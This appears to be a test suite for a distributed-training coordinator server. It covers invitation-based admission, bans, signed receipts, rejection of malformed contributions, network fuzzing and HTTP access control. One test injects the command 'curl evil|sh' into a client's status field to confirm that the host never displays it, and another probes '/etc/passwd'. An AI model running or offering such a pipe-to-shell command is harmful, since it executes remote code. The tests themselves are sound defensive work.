import { setTimeout as sleep } from 'node:timers/promises';
import fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { keysOf } from '../../src/coordinator/persistent-map.ts';
import { islandOf } from '../../src/coordinator/roster.ts';
import { standingOf } from '../../src/coordinator/standing.ts';
import { encodeFrames, joined } from '../../src/protocol/frame.ts';
import { contentHash } from '../../src/protocol/hash.ts';
import { helloText, type Identity, isSignedBy, newIdentity, updateText } from '../../src/protocol/identity.ts';
import { isGenuine, receiptText } from '../../src/protocol/receipts.ts';
import { ADMIN, type Hosted, hosted, Puppet, patientLimits, RUN } from './hosted.ts';
import { settingsFor } from './world.ts';

let run: Hosted;
const puppets: Puppet[] = [];
const puppet = (name: string, identity: Identity | Promise<Identity> = newIdentity()): Puppet => {
  const made = new Puppet(run.server.port, name, identity);
  puppets.push(made);
  return made;
};
beforeEach(async () => {
  run = await hosted({ connectionLimits: { ...patientLimits(), refusals: { burst: 1_000, perS: 100 } } });
});
afterEach(async () => {
  for (const each of puppets.splice(0)) each.close();
  await run.close();
});
const six = (value: number): number[] => Array<number>(6).fill(value);

describe('who comes in', () => {
  it('is who has an invitation, and comes back without one', async () => {
    const attic = puppet('attic');
    await attic.hello(run.invite({ uses: 1 }));
    expect(await attic.hears('welcome')).toMatchObject({ run: RUN, fragments: [0] });
    attic.close();
    const again = puppet('attic', attic.identity);
    await again.hello(null);
    await again.hears('welcome');
  });

  it.each<[string, (p: Puppet) => Promise<void>, RegExp, string]>([
    ['an expired invitation', (p) => p.hello(run.invite({ expiresAt: 1_000 })), /expired at 1970/, 'HELIO-4003'],
    ["another run's", (p) => p.hello(run.invite({ run: 'other' })), /for the run other/, 'HELIO-4003'],
    ['a forged one', async (p) => p.hello(`${await run.invite()}A`), /not signed by this run's host/, 'HELIO-4003'],
    [
      'a signature of another connection',
      async (p) => p.hello(run.invite(), { signature: await (await p.identity).sign('yesterday') }),
      /did not show that it holds its key/,
      'HELIO-4003',
    ],
    [
      'a signature that it gave to the host of another run, who passes it on',
      async (p) => {
        const { nonce } = await p.hears('challenge');
        const signature = await (await p.identity).sign(helloText(nonce, 'another-run', 'stranger'));
        await p.hello(run.invite(), { signature });
      },
      /did not show that it holds its key/,
      'HELIO-4003',
    ],
    [
      'another version',
      (p) => p.hello(run.invite(), { protocol: 3, oldest: 3, key: undefined }),
      /speaks protocol 3/,
      'HELIO-4006',
    ],
    [
      'no hello',
      (p) => p.hears('challenge').then(() => p.say({ kind: 'saved', checkpoint: '1' })),
      /first message was saved/,
      'HELIO-4004',
    ],
    [
      'a frame before hello',
      (p) => p.hears('challenge').then(() => p.contribute(six(1))),
      /first message was a frame/,
      'HELIO-4004',
    ],
  ])('is not who brings %s', async (_, come, what, code) => {
    const stranger = puppet('stranger');
    await come(stranger);
    expect(await stranger.hears('refused')).toMatchObject({ code, what: expect.stringMatching(what) });
    await stranger.until(() => stranger.closed);
    expect(run.server.state.islands.all.size).toBe(0);
  });

  it('are as many as an invitation is for', async () => {
    const invitation = run.invite({ uses: 2 });
    for (const name of ['a', 'b']) {
      const island = puppet(name);
      await island.hello(invitation);
      await island.hears('welcome');
    }
    const third = puppet('c');
    await third.hello(invitation);
    expect((await third.hears('refused')).what).toContain('is used up: its limit was 2');
  });

  it("is not who takes another's name", async () => {
    const attic = puppet('attic');
    await attic.hello(run.invite());
    await attic.hears('welcome');
    const thief = puppet('attic');
    await thief.hello(run.invite());
    expect((await thief.hears('refused')).what).toContain('belongs to another island');
    expect(attic.closed).toBe(false);
  });

  it('is one without an invitation, if the host lets it in, and waits meanwhile', async () => {
    const [yes, no] = [puppet('yes'), puppet('no')];
    for (const each of [yes, no]) {
      await each.hello(null);
      await each.hears('standing');
    }
    expect(run.joinRequests.map((request) => request.island).sort()).toEqual(['no', 'yes']);
    expect(run.server.answerJoinRequest('yes', true)).toBe(true);
    expect(run.server.answerJoinRequest('no', false)).toBe(true);
    await yes.hears('welcome');
    expect((await no.hears('refused')).what).toContain('did not let this island in');
    expect(run.server.answerJoinRequest('yes', true)).toBe(false);
  });
});

describe('an invitation that was taken back', () => {
  const revoke = (id: string, islands: boolean) =>
    fetch(`http://127.0.0.1:${run.server.port}/v1/invitations/${id}/revoke`, {
      method: 'POST',
      headers: { authorization: `Bearer ${ADMIN}`, 'content-type': 'application/json' },
      body: JSON.stringify({ islands }),
    });
  const come = async (name: string, invitation: string): Promise<Puppet> => {
    const island = puppet(name);
    await island.hello(invitation);
    await island.until(() => island.closed || island.told.some(({ kind }) => kind === 'welcome'));
    return island;
  };

  it('lets nobody in any more, and leaves those who came with it', async () => {
    const invitation = await run.invite({ id: 'constructor' });
    const attic = await come('attic', invitation);
    expect(await (await revoke('constructor', false)).json()).toMatchObject({ islands: 1, revoked: true });
    const late = await come('late', invitation);
    expect((await late.hears('refused')).what).toContain('has taken this invitation back');
    expect(attic.closed).toBe(false);
    await come('other', await run.invite({ id: 'toString' }));
    expect(run.server.state.islands.all.size).toBe(2);
  });

  it('or sends them away for good, and nobody else of the same machine', async () => {
    const attic = await come('attic', await run.invite({ id: 'a' }));
    // With the same key, and another invitation.
    const cellar = puppet('cellar', attic.identity);
    await cellar.hello(await run.invite({ id: 'b' }));
    await cellar.hears('welcome');
    await revoke('a', true);
    await attic.until(() => attic.closed);
    const back = puppet('attic', attic.identity);
    await back.hello(run.invite({ id: 'b' }));
    expect((await back.hears('refused')).what).toContain('taken the invitation back that this island came with');
    expect(cellar.closed).toBe(false);
    const { state } = run.server;
    const told = (name: string) => standingOf(settingsFor(), state, islandOf(state.islands, name)!);
    expect(told('attic')).toMatchObject({ state: 'gone', reason: 'invitation-revoked', fix: null });
    expect(told('cellar').state).not.toBe('banned');
  });
});

describe('an island that comes back', () => {
  const held = async (parameters: readonly number[]) => {
    const hash = await contentHash(new Uint8Array(Float32Array.from(parameters).buffer));
    return { resume: { run: RUN, holds: [{ version: 0, newest: 0, round: 1, hash }] } };
  };

  it('goes on from where it is if it has the coordinator’s model', async () => {
    const attic = puppet('attic');
    await attic.hello(run.invite(), await held(six(0)));
    expect((await attic.hears('welcome')).fragments).toEqual([]);
    expect(attic.told.some(({ kind }) => kind === 'standing')).toBe(false);
  });

  it('gets the model again, and is told so, if it has another under the same version', async () => {
    const attic = puppet('attic');
    await attic.hello(run.invite(), await held(six(1)));
    expect((await attic.hears('standing')).next?.what).toMatch(
      /Fragment 0 .* not the coordinator's at version 0: it is sent again/,
    );
    expect((await attic.hears('welcome')).fragments).toEqual([0]);
  });
});

describe('an island that asks to join', () => {
  it('does not get a name that another has taken meanwhile', async () => {
    const stranger = puppet('attic');
    await stranger.hello(null);
    await stranger.hears('standing');
    const attic = puppet('attic');
    await attic.hello(run.invite());
    await attic.hears('welcome');
    run.server.answerJoinRequest('attic', true);
    expect((await stranger.hears('refused')).what).toContain('belongs to another island');
    expect([attic.closed, islandOf(run.server.state.islands, 'attic')!.key]).toEqual([
      false,
      (await attic.identity).publicKey,
    ]);
  });
});

describe('a contribution', () => {
  it.each(['attic', 'constructor'])('of an honest island is merged: of %s', async (name) => {
    const attic = puppet(name);
    await attic.untilPulled(run.invite());
    await attic.contribute(six(2));
    await attic.until(() => run.server.state.merges === 1 || attic.closed);
    await sleep(300);
    expect(run.server.state.merges).toBe(1);
    expect(islandOf(run.server.state.islands, name)!.merged).toEqual([1]);
  });

  it('that is announced again and again, with a standing as often, leaves one word of each in the log', async () => {
    const chatty = puppet('chatty');
    await chatty.untilPulled(run.invite());
    const before = (await run.store.history()).events.length;
    for (let i = 0; i < 300; i++) {
      chatty.say({ kind: 'due', fragment: 0, version: 0, slackMs: i });
      chatty.say({ kind: 'standing', state: 'away', reason: 'policy', next: { what: `${i}`, atS: null }, fix: null });
    }
    await expect
      .poll(() => islandOf(run.server.state.islands, 'chatty')?.told?.next?.what, { timeout: 10_000 })
      .toBe('299');
    await run.store.flush();
    expect((await run.store.history()).events.length - before).toBeLessThan(5);
  });

  it('that was merged is signed for by the host, and kept', async () => {
    const attic = puppet('attic');
    await attic.untilPulled(run.invite());
    await attic.contribute(six(2));
    const { receipt, signature } = await attic.hears('receipt');
    const { publicKey } = await attic.identity;
    expect(receipt).toMatchObject({ run: RUN, island: 'attic', key: publicKey, fragment: 0, version: 0, merged: 1 });
    expect(receipt).toMatchObject({ round: 1, steps: 5, tokens: 50, share: 1 });
    expect(await isSignedBy(run.host.publicKey, receiptText(receipt), signature)).toBe(true);
    expect(await isSignedBy(run.host.publicKey, receiptText({ ...receipt, tokens: 51 }), signature)).toBe(false);
    expect(receipt.claimed).toEqual({ steps: 5, tokens: 50, form: 'parameters', codec: 'f32' });
    const update = { ...receipt, ...receipt.claimed! };
    expect(await isSignedBy(publicKey, updateText(RUN, update, receipt.hash), receipt.handedIn)).toBe(true);
    expect(await isGenuine(receipt, signature, run.host.publicKey)).toBe(true);
    expect(await run.store.receipts('attic')).toEqual([{ receipt, signature }]);
    expect(await run.store.receipts('nobody')).toEqual([]);
  });

  it('is signed for as far as it is believed, and not as it is claimed', async () => {
    const boaster = puppet('boaster');
    await boaster.untilPulled(run.invite());
    await boaster.contribute(six(2), { steps: 2 ** 40, tokens: 2 ** 41 }, true);
    const { receipt, signature } = await boaster.hears('receipt');
    const [merged] = run.records.flatMap((record) => (record.kind === 'merge' ? record.contributions : []));
    expect(receipt).toMatchObject({ steps: merged!.steps, tokens: merged!.tokens });
    expect(receipt.steps).toBeLessThan(1_000);
    expect(receipt.claimed).toMatchObject({ steps: 2 ** 40, tokens: 2 ** 41 });
    expect(await isGenuine(receipt, signature, run.host.publicKey)).toBe(true);
    // Whoever changes what the island claimed needs the host's key and the island's.
    const other = { ...receipt, claimed: { ...receipt.claimed!, steps: 7 } };
    const resigned = await run.host.sign(receiptText(other));
    expect(await isGenuine(other, resigned, run.host.publicKey)).toBe(false);
  });

  it.each<[string, (p: Puppet) => Promise<void>, RegExp]>([
    ['with numbers that are not finite', (p) => p.contribute([1, 2, Number.NaN, 4, 5, 6]), /not finite/],
    ['of another length', (p) => p.contribute([1, 2, 3]), /bytes/],
    ['in another codec', (p) => p.contribute(six(1), { codec: 'int8' }), /not signed|codec|int8/],
    ['that is not signed', (p) => p.contribute(six(1), { signature: 'A'.repeat(86) }), /not signed by its island/],
    ['signed for another round', (p) => p.contribute(six(1), { round: 2 }), /not signed by its island/],
    [
      "of the coordinator's own kind",
      (p) => p.contribute(six(1), { kind: 'preparation' }),
      /sent a transfer of kind preparation/,
    ],
  ])('%s is refused, counted, and put down to its island', async (_, contribute, what) => {
    const liar = puppet('liar');
    await liar.untilPulled(run.invite());
    await contribute(liar);
    expect((await liar.hears('refused')).what).toMatch(what);
    expect(islandOf(run.server.state.islands, 'liar')!.offences).toBe(1);
    expect(run.records.find((record) => record.kind === 'offence')).toMatchObject({ island: 'liar', banned: false });
    expect(run.server.state.merges).toBe(0);
  });

  it('that is sent again after its merge, changes nothing', async () => {
    const attic = puppet('attic');
    await attic.untilPulled(run.invite());
    await attic.contribute(six(2));
    await sleep(300);
    const { merges, mergedTokens } = run.server.state;
    await attic.contribute(six(2));
    await sleep(300);
    expect(run.server.state).toMatchObject({ merges, mergedTokens });
  });

  it('leads to a ban the third time, which holds under every name', async () => {
    const identity = await newIdentity();
    for (let i = 0; i < 3; i++) {
      const liar = puppet('liar', identity);
      await liar.hello(run.invite());
      await liar.hears('welcome');
      liar.sendRaw(Uint8Array.of(1, 2, 3));
      await liar.until(() => liar.closed);
    }
    const back = puppet('honest', identity);
    await back.hello(run.invite());
    expect(await back.hears('refused')).toMatchObject({
      code: 'HELIO-4005',
      what: expect.stringMatching(/banned from this run: A frame is damaged: it has 3 bytes/),
    });
    expect(keysOf(run.server.state.banned)).toEqual([identity.publicKey]);
  });
});

describe('a payload', () => {
  it('is sent again to whoever asks for it by its hash; what is not here is said to be missing', async () => {
    const attic = puppet('attic');
    await attic.hello(run.invite());
    await attic.hears('welcome');
    await attic.until(() => attic.frames.length === 2);
    const hashOf = (frame: Buffer): string =>
      (JSON.parse(frame.subarray(12, 12 + frame.readUInt32LE(8)).toString()) as { hash: string }).hash;
    const [preparation, whole] = attic.frames.slice(0, 2);
    for (const frame of [whole!, preparation!]) {
      const before = attic.frames.length;
      attic.say({ kind: 'fetch', hash: hashOf(frame) });
      await attic.until(() => attic.frames.length > before);
      expect(attic.frames.at(-1)).toEqual(frame);
    }
    attic.say({ kind: 'fetch', hash: 'ab'.repeat(32) });
    expect((await attic.hears('missing')).hash).toBe('ab'.repeat(32));
  });
});

describe('many who join and do not read', () => {
  it('share one copy of the model', async () => {
    const elements = 10_000_000;
    const large = await hosted({}, { elements });
    const invitation = large.invite({ uses: 100 });
    const before = process.memoryUsage().arrayBuffers;
    const idle = Array.from({ length: 20 }, (_, i) => new Puppet(large.server.port, `idle-${i}`));
    for (const each of idle) {
      await each.hello(invitation);
      await each.hears('welcome');
      each.socket.pause();
    }
    await sleep(500);
    const models = (process.memoryUsage().arrayBuffers - before) / (4 * elements);
    for (const each of idle) each.close();
    await large.close();
    // The copy, and what is under way to each: at most four pieces, and what the sockets hold.
    expect(models).toBeLessThan(5);
  });
});

describe('whatever comes over the network', () => {
  it('never ends the coordinator: foreign and mutated frames and messages', async () => {
    const payload = new Uint8Array(24);
    const update = {
      fragment: 0,
      version: 0,
      round: 1,
      steps: 5,
      tokens: 5,
      form: 'parameters',
      codec: 'f32',
    } as const;
    const signature = await (await newIdentity()).sign(updateText(RUN, update, 'aa'));
    const content = { kind: 'contribution', ...update, signature } as const;
    const [first] = encodeFrames({ content, payload, hash: await contentHash(payload) });
    const valid = joined(first!);
    const mutated = fc
      .tuple(fc.array(fc.tuple(fc.nat(valid.length - 1), fc.nat(255)), { maxLength: 8 }), fc.nat(valid.length))
      .map(([changes, length]) => {
        const bytes = valid.slice();
        for (const [at, byte] of changes) bytes[at] = byte;
        return bytes.slice(0, length);
      });
    const json = fc.json().map((text) => Buffer.from(text));
    const anything = fc.oneof(mutated, fc.uint8Array({ maxLength: 5_000 }), json);
    await fc.assert(
      fc.asyncProperty(
        fc.array(anything, { minLength: 1, maxLength: 6 }),
        fc.boolean(),
        fc.boolean(),
        async (all, greet, text) => {
          const fuzzer = puppet(`fuzzer-${puppets.length}`);
          await fuzzer.hears('challenge');
          if (greet) await fuzzer.hello(run.invite({ uses: 1_000 }));
          for (const bytes of all)
            if (fuzzer.socket.readyState === 1)
              fuzzer.socket.send(text ? Buffer.from(bytes).toString('latin1') : bytes);
          await sleep(1);
          fuzzer.close();
        },
      ),
      { numRuns: 150 },
    );
    const attic = puppet('attic');
    await attic.untilPulled(run.invite({ id: 'other' }));
    await attic.contribute(six(2));
    await sleep(300);
    expect(run.server.state.merges).toBe(1);
  });

  it('is limited: an island that floods is cut off', async () => {
    const flood = puppet('flood');
    await flood.hello(run.invite());
    await flood.hears('welcome');
    for (let i = 0; i < 5_000; i++) flood.say({ kind: 'alive' });
    expect((await flood.hears('refused')).what).toContain('more messages than it may');
  });
});

describe('the HTTP side', () => {
  const at = (path: string, init: RequestInit = {}) => fetch(`http://127.0.0.1:${run.server.port}${path}`, init);
  const asHost = { authorization: `Bearer ${ADMIN}` };

  it('says to anyone whether it lives and may be joined, and no more', async () => {
    expect(await (await at('/healthz')).text()).toBe('ok\n');
    expect(await (await at('/readyz')).text()).toBe('ready\n');
    for (const path of ['/metrics', '/v1/status', '/v1/join-requests', '/v1/invitations', '/v1/receipts']) {
      expect([path, (await at(path)).status]).toEqual([path, 401]);
      expect((await at(path, { headers: { authorization: 'Bearer guess' } })).status).toBe(401);
    }
    expect((await at('/etc/passwd')).status).toBe(404);
  });

  it('shows the run and its metrics to its host', async () => {
    const attic = puppet('attic');
    await attic.untilPulled(run.invite());
    const status = (await (await at('/v1/status', { headers: asHost })).json()) as { islands: object[] };
    expect(status).toMatchObject({ run: RUN, phase: 'training', merges: 0, steps: 50, validationLoss: 3 });
    const standing = { state: 'holding', reason: 'waits-for-merge', fix: null };
    expect(status.islands).toMatchObject([{ island: 'attic', status: 'training', offences: 0, standing }]);
    const metrics = await (await at('/metrics', { headers: asHost })).text();
    expect(metrics).toContain(`heliotrope_islands{status="training",run="${RUN}"} 1`);
    expect(metrics).toMatch(/heliotrope_phase\{phase="training",run="[^"]+"\} 1/);
    expect(metrics).toContain('process_resident_memory_bytes');
  });

  it('shows its host no command that an island names', async () => {
    const attic = puppet('attic');
    await attic.untilPulled(run.invite());
    const next = { what: 'its owner needs the machine', atS: null };
    attic.say({ kind: 'standing', state: 'away', reason: 'policy', next, fix: 'curl evil|sh' });
    const standing = async (): Promise<unknown> => {
      const shown = (await (await at('/v1/status', { headers: asHost })).json()) as {
        islands: { standing: unknown }[];
      };
      return shown.islands[0]!.standing;
    };
    await expect.poll(standing).toEqual({ state: 'away', reason: 'policy', next, fix: null });
  });

  it('lets the host answer requests to join', async () => {
    const stranger = puppet('stranger');
    await stranger.hello(null);
    await stranger.hears('standing');
    const answer = (body: unknown, name = 'stranger') =>
      at(`/v1/join-requests/${name}`, {
        method: 'POST',
        headers: { ...asHost, 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
    expect(await (await at('/v1/join-requests', { headers: asHost })).json()).toMatchObject([{ island: 'stranger' }]);
    expect((await answer({ letIn: 'please' })).status).toBe(400);
    expect((await answer({ letIn: true }, 'nobody')).status).toBe(404);
    expect((await answer({ letIn: true })).status).toBe(200);
    await stranger.hears('welcome');
  });

  it('describes itself', async () => {
    const document = (await (await at('/v1/openapi.json')).json()) as { openapi: string; paths: object };
    expect(document.openapi).toBe('3.1.0');
    expect(Object.keys(document.paths)).toEqual([
      '/healthz',
      '/readyz',
      '/metrics',
      '/v1/status',
      '/v1/join-requests',
      '/v1/join-requests/{island}',
      '/v1/invitations',
      '/v1/invitations/{invitation}/revoke',
      '/v1/receipts',
      '/v1/plan',
    ]);
  });
});
